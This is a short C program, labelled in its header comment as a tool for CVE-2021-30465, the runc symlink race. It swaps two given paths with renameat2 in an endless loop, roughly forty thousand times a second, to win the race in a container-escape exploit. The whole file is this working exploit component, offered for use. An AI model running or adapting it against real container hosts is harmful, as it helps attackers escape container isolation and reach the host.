/*
 * CVE-2021-30465: exchanges two names, forty thousand times a second, until it is killed.
 *
 * exchange A B
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { EXCHANGE = 2 }; /* RENAME_EXCHANGE */

int main(int argc, char **argv)
{
	if (argc != 3)
		return 2;
	for (;;) {
		if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], EXCHANGE) != 0) {
			perror("renameat2");
			return 1;
		}
		usleep(20);
	}
}
